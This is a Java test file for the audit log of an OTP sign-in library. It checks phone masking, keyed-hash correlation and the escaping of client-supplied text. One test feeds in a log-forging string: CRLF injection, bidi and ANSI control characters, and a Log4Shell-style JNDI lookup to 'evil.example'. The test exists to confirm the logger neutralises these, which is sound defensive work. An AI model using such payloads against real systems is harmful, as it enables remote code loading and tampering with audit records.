// Copyright The otp-auth authors
// SPDX-License-Identifier: Apache-2.0
package dev.otpauth.event;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.otpauth.model.ChallengeId;
import dev.otpauth.model.Client;
import dev.otpauth.model.ClientAddress;
import dev.otpauth.model.DeliveryFailure;
import dev.otpauth.model.PhoneNumber;
import dev.otpauth.model.SubjectKey;
import dev.otpauth.policy.Rule;
import dev.otpauth.policy.RuleMode;
import dev.otpauth.result.StartResult;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

class AuditLogTest {

    private static final ChallengeId CHALLENGE = new ChallengeId("ch_AAAAAAAAAAAAAAAAAAAAAA");
    private static final PhoneNumber PHONE = new PhoneNumber("+12025550142");
    private static final PhoneNumber OTHER = new PhoneNumber("+12025550143");
    private static final byte[] KEY = new byte[16];

    private final Logger logger = (Logger) LoggerFactory.getLogger("dev.otpauth.audit");
    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
    private final AuditLog log = AuditLog.create();

    @BeforeEach
    void listen() {
        logger.setAdditive(false);
        logger.setLevel(Level.TRACE);
        lines.start();
        logger.addAppender(lines);
    }

    @AfterEach
    void stopListening() {
        logger.detachAppender(lines);
        logger.setAdditive(true);
        logger.setLevel(null);
    }

    @Tag("LOG-02")
    @Test
    void phonesAreMasked() {
        log.messageSent(CHALLENGE, PHONE, "SM123");
        log.messageFailed(CHALLENGE, PHONE, DeliveryFailure.BLOCKED);

        assertThat(messages())
                .containsExactly(
                        "event=message-sent challenge=ch_AAAAAAAAAAAAAAAAAAAAAA phone=+1********42 provider-id=SM123",
                        "event=message-failed challenge=ch_AAAAAAAAAAAAAAAAAAAAAA phone=+1********42 cause=BLOCKED");
        assertThat(lines.list).extracting(ILoggingEvent::getLevel).containsExactly(Level.INFO, Level.WARN);
    }

    @Test
    void aRuleThatActsIsALineThatNamesNobody() {
        log.ruleDecided(new RuleDecision(
                Rule.PREFIX_SENDS,
                new SubjectKey(new byte[32]),
                20,
                20,
                RuleMode.ENFORCE,
                RuleDecision.Outcome.MUTED,
                Instant.EPOCH));
        log.budgetAlarm(Rule.SPEND_DAY, 160, 200);

        assertThat(messages())
                .containsExactly(
                        "event=rule-decided rule=PREFIX_SENDS subject=0000000000000000 used=20 max=20 mode=ENFORCE"
                                + " outcome=MUTED",
                        "event=budget-alarm rule=SPEND_DAY used=160 max=200");
        assertThat(lines.list).extracting(ILoggingEvent::getLevel).containsOnly(Level.WARN);
    }

    @Tag("LOG-02")
    @Test
    void aKeyedHashTellsWhatBelongsTogether() {
        AuditLog correlated = AuditLog.correlatedBy(KEY);
        byte[] otherKey = KEY.clone();
        otherKey[0] = 1;

        correlated.messageSent(CHALLENGE, PHONE, "a");
        correlated.messageSent(CHALLENGE, PHONE, "a");
        correlated.messageSent(CHALLENGE, OTHER, "a");
        AuditLog.correlatedBy(otherKey).messageSent(CHALLENGE, PHONE, "a");

        List<String> hashes = messages().stream()
                .map(line -> line.replaceFirst(".*phone-hash=([0-9a-f]{16}) .*", "$1"))
                .toList();
        assertThat(hashes).allMatch(hash -> hash.length() == 16);
        assertThat(hashes.get(0))
                .isEqualTo(hashes.get(1))
                .isNotEqualTo(hashes.get(2))
                .isNotEqualTo(hashes.get(3));
        assertThat(messages()).noneMatch(line -> line.contains("2025550"));
        assertThatIllegalArgumentException().isThrownBy(() -> AuditLog.correlatedBy(new byte[15]));
    }

    @Tag("LOG-04")
    @Test
    void aClientCannotForgeALine() {
        String forged =
                "x\r\nevent=signed-in\u0085\u2028\u2029\u001B[31m\u202Eabc\u2066\u0000\"\\ ${jndi:ldap://evil.example} {}";

        log.messageSent(CHALLENGE, PHONE, forged);

        assertThat(messages())
                .containsExactly(
                        "event=message-sent challenge=ch_AAAAAAAAAAAAAAAAAAAAAA phone=+1********42 provider-id="
                                + "\"x\\u{d}\\u{a}event=signed-in\\u{85}\\u{2028}\\u{2029}\\u{1b}[31m\\u{202e}abc\\u{2066}\\u{0}\\\"\\\\"
                                + " ${jndi:ldap://evil.example} {}\"");
    }

    @Tag("LOG-04")
    @Test
    void whateverAClientWritesItIsOneLineWithoutControls() {
        Random random = new Random(42);
        for (int round = 0; round < 10_000; round++) {
            String device = random.ints(20, 0, 0x3000)
                    .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                    .toString();
            log.messageSent(CHALLENGE, PHONE, device);
            log.codeRefused(
                    StartResult.Reason.TOO_SOON, new Client(ClientAddress.parse("192.0.2.1"), Optional.of(device)));
        }

        assertThat(messages()).hasSize(20_000);
        assertThat(String.join("", messages())).doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Cs}]");
    }

    @Test
    void noEventIsForgotten() {
        List<String> events = Arrays.stream(AuthEvents.class.getMethods())
                .map(method -> method.getName())
                .toList();
        List<String> written = Arrays.stream(AuditLog.class.getDeclaredMethods())
                .map(method -> method.getName())
                .toList();

        assertThat(events).isNotEmpty().allMatch(written::contains);
    }

    private List<String> messages() {
        return lines.list.stream().map(ILoggingEvent::getFormattedMessage).toList();
    }
}
